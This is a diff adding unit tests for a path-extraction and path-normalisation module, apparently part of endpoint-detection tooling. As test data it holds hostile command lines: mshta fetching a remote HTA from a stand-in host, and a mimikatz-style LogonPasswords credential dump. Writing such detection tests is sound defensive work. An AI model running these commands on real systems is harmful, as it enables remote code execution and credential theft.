@@ -38,6 +38,7 @@ TEST(HostStatePaths, AHostOfOtherCodeLeadsToWhatItRuns)
         ElementsAre("rundll32.exe", R"(\users\public\a.dll)"));
     EXPECT_THAT(files_of_command(R"(C:\Windows\System32\cmd.exe /c "C:\TMP\x.bat")"),
         ElementsAre(R"(\windows\system32\cmd.exe)", R"(\tmp\x.bat)"));
+    EXPECT_THAT(files_of_command("mshta.exe http://a.example/x.hta"), ElementsAre("mshta.exe")) << "no file of a disk";
     EXPECT_THAT(
         files_of_command(R"(C:\TMP\mim.exe sekurlsa::LogonPasswords > C:\TMP\o.exe)"), ElementsAre(R"(\tmp\mim.exe)"));
 }
@@ -49,6 +50,9 @@ TEST(HostStatePaths, TheGeneralFormLeavesOutWhatDiffersBetweenHosts)
     EXPECT_EQ(
         general_form(R"(\onedrive task-s-1-5-21-2212929841-2730996645-2649195864-1000)"), R"(\onedrive task-%sid%)");
     EXPECT_EQ(general_form(R"(\app 99.0.1150.36\x.exe)"), R"(\app #\x.exe)");
+    EXPECT_EQ(general_form(R"(\windows\system32\w64time.dll)"), R"(\windows\system32\w64time.dll)")
+        << "the size of a word tells names apart";
+    EXPECT_EQ(general_form(R"(\tools\x640.dll)"), R"(\tools\x#dll)");
     EXPECT_EQ(general_form("{cf8953f0-7413-4bc6-94a3-b0282acc3ae4}"), "{%hex%}");
 }
 
